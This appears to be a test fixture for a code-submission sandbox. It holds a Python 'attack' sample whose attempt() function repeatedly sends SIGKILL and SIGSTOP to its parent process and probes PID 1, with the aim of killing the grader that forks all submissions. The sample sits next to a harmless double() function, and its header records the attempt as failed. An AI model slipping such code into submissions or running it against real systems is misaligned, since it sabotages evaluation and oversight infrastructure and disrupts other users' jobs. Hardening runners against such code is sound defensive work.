# /// attack
# tries = "Kills the process that started it, from which all other submissions are forked, and the first one of all."
# attempt = "failed"
# with_victims = true
# ///
import os
import signal
import time


def attempt():
    ends = time.monotonic() + 0.8
    while time.monotonic() < ends:
        for pid, number in ((os.getppid(), signal.SIGKILL), (os.getppid(), signal.SIGSTOP), (1, 0)):
            if pid in (0, os.getpid()):
                continue
            try:
                os.kill(pid, number)
            except OSError:
                continue
            return True
    return False


def double(x):
    return 2 * x
